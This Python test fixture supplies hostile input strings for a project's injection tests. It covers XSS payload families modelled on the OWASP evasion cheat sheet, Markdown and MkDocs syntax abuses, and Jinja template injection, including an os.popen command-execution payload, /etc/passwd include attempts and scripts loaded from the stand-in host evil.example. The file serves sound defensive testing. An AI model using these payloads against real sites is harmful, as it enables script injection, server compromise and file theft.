"""Hostile strings for the injection tests, written for this project after the payload families
of the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown, Jinja and MkDocs/Material syntax.

Every payload that would run script calls `alert`, `prompt`, `confirm` or loads a script from
`evil.example`, so a test can also look for those words; the structural checks in
test_hostile.py do not depend on it.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    '<SCRIPT SRC="//evil.example/.j"></SCRIPT>',
    "<script/xss src=https://evil.example/x.js></script>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u00abscript\u00bbalert(1)\u00ab/script\u00bb",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<script type="module">import("https://evil.example/m.js")</script>',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<div onpointerover=alert(1)>hover</div>",
    "<x onclick=alert(1)>click",
    "<style onload=alert(1)></style>",
]

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "jav\tascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29",
    "javascript://%0aalert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    'vbscript:msgbox("XSS")',
    "livescript:alert(1)",
    "//evil.example/x.js",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onmouseover='alert(1)",
    'https://example.org/a?x="><script>alert(1)</script>',
    "https://example.org/[a](onmouseover=alert(1)//)",
    'https://example.org/`a`/"onmouseover=alert(1)//',
    "https://example.org/<img src=x onerror=alert(1)>",
    "https://example.org/{: onclick=alert(1) }",
    "http://javascript:alert(1)@example.org/",
    "https:javascript:alert(1)",
    "https://example.org/ javascript:alert(1)",
    "https://example.org/\njavascript:alert(1)",
]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "` onmouseover=alert(1) `",
    '" autofocus onfocus=alert(1) x="',
    '"/><script>alert(1)</script>',
    '" style="background:url(javascript:alert(1))',
    "&quot; onmouseover=&quot;alert(1)",
    "&#34; onmouseover=&#34;alert(1)",
]

STYLES = [
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<div style="width: expression(alert(1));">x</div>',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<style>*{background:url('javascript:alert(1)')}</style>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    '<span style="behavior: url(xss.htc);">x</span>',
    '<xss style="xss:expr/*XSS*/ession(alert(1))">',
]

EMBEDS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<embed src="https://evil.example/x.swf">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="javascript:alert(1)"></applet>',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<a href="javascript:alert(1)">link</a>',
    '<A HREF="jav&#x09;ascript:alert(1)">link</A>',
    "<template><script>alert(1)</script></template>",
]

COMMENTS = [
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "--><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<!--",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    '[click](JAVASCRIPT:alert(1) "title")',
    '[a](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "![img](https://evil.example/x.png){: onerror=alert(1) }",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "<data:text/html,<script>alert(1)</script>>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[x][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "*[XSS]: <script>alert(1)</script>",
    "text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**",
    "\\<script>alert(1)\\</script>",
    "# <script>alert(1)</script>\n\nSetext\n===",
    "> <img src=x onerror=alert(1)>",
    "- [ ] <svg onload=alert(1)>",
    "Term\n: <img src=x onerror=alert(1)>",
]

RAW_HTML = [
    "<div>\n<script>alert(1)</script>\n</div>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<div markdown>\n\n[x](javascript:alert(1))\n\n</div>",
    "<p>\n<img src=x onerror=alert(1)>\n</p>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "</p></div></article><script>alert(1)</script>",
    "</span></mark><img src=x onerror=alert(1)>",
    '</a><a href="javascript:alert(1)">x</a>',
]

JINJA = [
    "{{ 7*7 }}",
    "{{ config.site_name }}",
    "{{ config }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in range(99999999) %}{{ x }}{% endfor %}",
    "{# unterminated comment",
    "{% if %}",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{{ page.title }}",
    "{% include '/etc/passwd' %}",
]

MKDOCS = [
    '!!! danger "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
    '??? note "x"\n    [x](javascript:alert(1))',
    '{: onclick="alert(1)" }',
    '{: #x .y onmouseover="alert(1)" }',
    "text\n{: onclick=alert(1) }",
    '--8<-- "/etc/passwd"',
    '--8<-- "mkdocs.yml"',
    ';--8<-- "docs/about.md"',
    ":material-alert:",
    ":fontawesome-solid-bug:",
    ":smile:",
    "| a | <script>alert(1)</script> |\n|---|---|\n| [x](javascript:alert(1)) | b |",
    "a | b || c",
    "[TOC]",
    "$$\\href{javascript:alert(1)}{x}$$",
    "==mark== ^^ins^^ ~~del~~ ++ctrl+alt++",
    "/// html | script\nalert(1)\n///",
    "/// admonition | <img src=x onerror=alert(1)>\n///",
    '=== "Tab <img src=x onerror=alert(1)>"\n    x',
    "<!-- more -->",
    "\x02wzxhzdk:0\x03\x02klzzwxh:0\x03",
    "@evil-user #123 !456",
    "{{< shortcode >}}",
]

UNICODE = [
    "\u202eevil\u202c",
    "\u200b<\u200bscript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\x80\x85\x9f <script>alert(1)</script>",
    "\ufffe\uffff [x]( javascript:alert(1))",
    "\U0001f600 [x]( javascript:alert(1))",
    "line\u2028sep\u2029para <script>alert(1)</script>",
    "\x0b\x0c\x1b[31m <svg onload=alert(1)>",
]

FAMILIES: dict[str, list[str]] = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "urls": URLS,
    "attribute breakouts": ATTRIBUTE_BREAKOUTS,
    "styles": STYLES,
    "embeds": EMBEDS,
    "comments and cdata": COMMENTS,
    "markdown": MARKDOWN,
    "raw html": RAW_HTML,
    "jinja": JINJA,
    "mkdocs and material": MKDOCS,
    "unicode": UNICODE,
}

PAYLOADS: list[str] = [p for family in FAMILIES.values() for p in family]
"""Every payload, in a fixed order."""


def chunks(items: list[str], size: int) -> list[list[str]]:
    """`items` in consecutive groups of at most `size`."""
    return [items[i : i + size] for i in range(0, len(items), size)]
